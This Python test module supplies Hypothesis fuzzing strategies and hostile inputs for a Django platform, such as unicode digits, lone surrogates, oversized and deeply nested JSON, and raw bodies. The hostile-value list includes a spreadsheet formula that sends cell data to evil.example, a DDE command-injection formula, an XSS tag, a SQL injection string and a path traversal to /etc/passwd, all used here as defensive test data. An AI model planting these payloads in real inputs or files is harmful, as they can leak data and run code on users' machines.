"""Hostile input: text and JSON that broke the platform before, and Hypothesis strategies around them.

Values are plain ``str`` (lone surrogates included) and JSON bodies are raw text, so a request can carry
what a real client can send but Python's encoders refuse: ``encode_query`` sends a lone surrogate as the
invalid UTF-8 bytes a broken client would send, and ``Deep(n)`` renders as ``n`` nested arrays, far
deeper than ``json.dumps`` could write.
"""

from __future__ import annotations

import json
import uuid
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote

from hypothesis import strategies as st

LONG = 10_000

# Each one answered 500 somewhere, or is the shape of such a value (issue 9, section 7 and 4).
KNOWN_HOSTILE: tuple[str, ...] = (
    "²",  # isdigit() but not int()
    "١٢",  # Arabic-Indic digits: int() accepts them
    "１２",  # fullwidth digits
    "𝟙𝟚",
    "Ⅻ",
    "16605129629",
    "10000",
    "99999999999999999999999",
    "9" * 400,
    "-1",
    "0",
    "+5",
    " 5 ",
    "1_000",
    "1e400",
    "NaN",
    "-Infinity",
    "\x00",
    "%00",
    "Nguyễn\x00Văn",
    "\x01",
    "Chi bộ\x01thôn",
    "\x1b[31m\x7f\x85",
    "\ud800",  # lone surrogate
    "a\udfffb",
    "\u200b\u200b\u200b",  # only zero-width characters
    "\u202eKHÓA",
    "\ufeff",
    "ｔochuc.xa",  # fullwidth look-alike
    "Nguye\u0302\u0303n",  # combining marks (NFD)
    "😀" * 20,
    "x" * LONG,
    "đ" * LONG,
    "1" * LONG,
    '=HYPERLINK("http://evil.example/?u="&A5,"Chi bộ")',
    "=cmd|' /C calc'!A0",
    "<script>alert(1)</script>",
    "' OR 1=1 --",
    "../../etc/passwd",
    "",
    " ",
    "\t\r\n",
    "31/02/2025",
    "2025-02-30",
    "99/99/99999",
    "01/01/0001",
    "31/12/9999",
    "25:61",
    "true",
    "null",
    "[]",
)

# The values that broke the most views (issue 9, section 7), each sent to every input of every page
# before the random examples: a sweep finds for sure what a few random examples might miss.
SHARP: tuple[str, ...] = (
    "²",  # isdigit() but not int()
    "10000",  # a year past date's range
    "16605129629",  # past 32 bits
    "99999999999999999999",  # past 64 bits
    "\x00",  # PostgreSQL refuses it in text
    "x" * LONG,  # past every column's length
    "a\ud800",  # a lone surrogate: no encoder takes it
)

# A form's fields are typed by Django's form fields, which parse numbers and dates themselves; the
# sweep of forms keeps the values that reach the project's own parsing, storage and writers.
FORM_SHARP: tuple[str, ...] = ("²", "99999999999999999999", "\x00", "x" * LONG, "a\ud800")

# Any code point, controls and surrogates included: what a client can put in a form or a query.
_any_char = st.characters(codec=None, exclude_categories=())
_short_text = st.text(alphabet=_any_char, max_size=40)
_digits = st.text(alphabet=st.characters(categories=("Nd", "No", "Nl")), min_size=1, max_size=8)


def hostile_text() -> st.SearchStrategy[str]:
    """A known hostile value most of the time; otherwise arbitrary text, unicode digits or a long run."""
    return st.one_of(
        st.sampled_from(KNOWN_HOSTILE),
        _short_text,
        _digits,
        st.tuples(st.sampled_from(KNOWN_HOSTILE), _short_text).map("".join),
        st.integers(min_value=-(2**70), max_value=2**70).map(str),
    )


@dataclass(frozen=True)
class Deep:
    """``depth`` nested JSON arrays around ``null``."""

    depth: int


def _json_leaf() -> st.SearchStrategy[Any]:
    return st.one_of(
        hostile_text(),
        st.none(),
        st.booleans(),
        st.sampled_from([10**400, -(10**400), 2**63, 2**64, -(2**63) - 1, 1e308, 1.5, -0.0]),
        st.sampled_from([float("inf"), float("nan")]),  # Python writes these; a lax parser reads them
        st.just(Deep(LONG)),
    )


def json_value() -> st.SearchStrategy[Any]:
    return st.recursive(
        _json_leaf(),
        lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
        max_leaves=6,
    )


def render_json(value: Any) -> str:
    """``value`` as JSON text; ``Deep`` markers become their nested arrays and surrogates stay escaped."""
    deep: dict[str, int] = {}

    def replace(item: Any) -> Any:
        if isinstance(item, Deep):
            marker = f"deep-{uuid.uuid4().hex}"
            deep[marker] = item.depth
            return marker
        if isinstance(item, dict):
            return {k: replace(v) for k, v in item.items()}
        if isinstance(item, list):
            return [replace(v) for v in item]
        return item

    text = json.dumps(replace(value))  # ensure_ascii: a lone surrogate travels as "\ud800"
    for marker, depth in deep.items():
        text = text.replace(f'"{marker}"', "[" * depth + "null" + "]" * depth)
    return text


# Whole bodies no field-by-field value produces.
RAW_JSON_BODIES: tuple[bytes, ...] = (
    b"[" * LONG + b"]" * LONG,
    b'{"a":' * LONG + b"1" + b"}" * LONG,
    b"[" * LONG,
    b"\xff\xfe\x00",
    b'{"client_id": "\xed\xa0\x80"}',
    b"",
    b"null",
    b"1e999999",
    b"9" * LONG,
    b'"' + b"x" * LONG + b'"',
    b'{"a": NaN, "b": Infinity}',
    b"\x00",
)


def encode_value(value: str) -> str:
    """``value`` percent-encoded; a lone surrogate goes as the invalid UTF-8 a broken client sends."""
    return quote(value.encode("utf-8", "surrogatepass"), safe="")


def encode_query(params: list[tuple[str, str]]) -> str:
    return "&".join(f"{encode_value(k)}={encode_value(v)}" for k, v in params)


def without_surrogates(value: str) -> str:
    """Multipart bodies are built by Django's client, which cannot encode a lone surrogate."""
    return value.encode("utf-8", "replace").decode("utf-8")
